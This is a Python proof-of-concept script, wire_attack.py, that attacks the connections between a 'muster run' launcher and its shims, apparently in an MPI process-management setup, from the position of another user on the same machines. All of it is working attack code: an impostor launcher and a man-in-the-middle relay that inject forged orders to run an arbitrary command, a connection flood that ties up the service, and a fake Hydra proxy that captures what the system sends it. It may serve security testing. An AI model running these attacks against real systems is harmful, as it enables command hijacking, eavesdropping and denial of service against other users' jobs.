"""Attacks on the connections between muster run and its shims, as another user of the machines.

  wire_attack.py impostor PORT COMMAND...            be the launcher for whoever calls at PORT: order COMMAND
  wire_attack.py relay PORT HOST LAUNCHER COMMAND... pass everything on to the launcher, then order COMMAND in its place
  wire_attack.py flood HOST PORT N                   hold N connections that say nothing; "holding" when they are there
  wire_attack.py hydra HOST PORT VERSION             be the proxy 0 of this Hydra ("4.0.2") and print what it is told

The orders are in clear, in the format of this build's own messages (forged_orders_main.cpp).
"""
import pathlib
import select
import socket
import struct
import subprocess
import sys
import time


def orders(command):
    """The frames of the orders "run this" and "go", by the program forged_orders beside this one."""
    frames = subprocess.run([pathlib.Path(__file__).with_name("forged_orders"), *command], check=True, capture_output=True).stdout
    end = 4 + struct.unpack_from(">I", frames)[0]
    return frames[:end], frames[end:]


def patient(connection, data):
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def listen(port):
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("", port))
    server.listen(16)
    print("listening", flush=True)
    return server


def give_orders(connection, command):
    job, go = orders(command)
    if patient(connection, job):
        time.sleep(1)  # the shim places its rank; "go" would not be waited for
        patient(connection, go)


def impostor(port, command):
    server = listen(port)
    while True:
        caller, _ = server.accept()
        caller.settimeout(3)
        try:
            print("a shim said", len(caller.recv(4096)), "bytes", flush=True)
        except OSError:
            continue
        give_orders(caller, command)


def relay(port, host, launcher, command):
    server = listen(port)
    while True:
        shim, _ = server.accept()
        behind = socket.create_connection((host, launcher))
        said = b""
        while len(said) < 300:  # with the launcher's "job" it is more, before it less
            ready, _, _ = select.select([shim, behind], [], [], 10)
            data = [(one, one.recv(65536)) for one in ready]
            if not data or any(not piece for _, piece in data):
                break
            for one, piece in data:
                patient(shim if one is behind else behind, b"" if one is behind and len(said + piece) >= 300 else piece)
                said += piece if one is behind else b""
        print("passed on", len(said), "bytes", flush=True)
        give_orders(shim, command)


def flood(host, port, number):
    held = []
    for _ in range(number):
        try:
            held.append(socket.create_connection((host, port), timeout=2))
        except OSError:
            break
    print("holding", len(held), flush=True)
    while True:  # those that are closed come again
        ready, _, _ = select.select(held, [], [], 1) if len(held) < 1000 else ([], [], [])
        for one in ready:
            held.remove(one)
            one.close()
            try:
                held.append(socket.create_connection((host, port), timeout=2))
            except OSError:
                pass
        if len(held) >= 1000:
            time.sleep(1)


def hydra(host, port, version):
    proxy = socket.create_connection((host, port))
    marked = tuple(map(int, version.split(".")[:2])) >= (4, 2)  # a word and the group's number come before the proxy's
    proxy.sendall(struct.pack("=4sii", b"HYD", 0, 0) if marked else struct.pack("=i", 0))
    proxy.settimeout(3)
    try:
        while data := proxy.recv(65536):
            sys.stdout.buffer.write(data.replace(b"\0", b"\n"))
            sys.stdout.flush()
    except OSError:
        pass


what, rest = sys.argv[1], sys.argv[2:]
if what == "impostor":
    impostor(int(rest[0]), rest[1:])
elif what == "relay":
    relay(int(rest[0]), rest[1], int(rest[2]), rest[3:])
elif what == "flood":
    flood(rest[0], int(rest[1]), int(rest[2]))
elif what == "hydra":
    hydra(rest[0], int(rest[1]), rest[2])
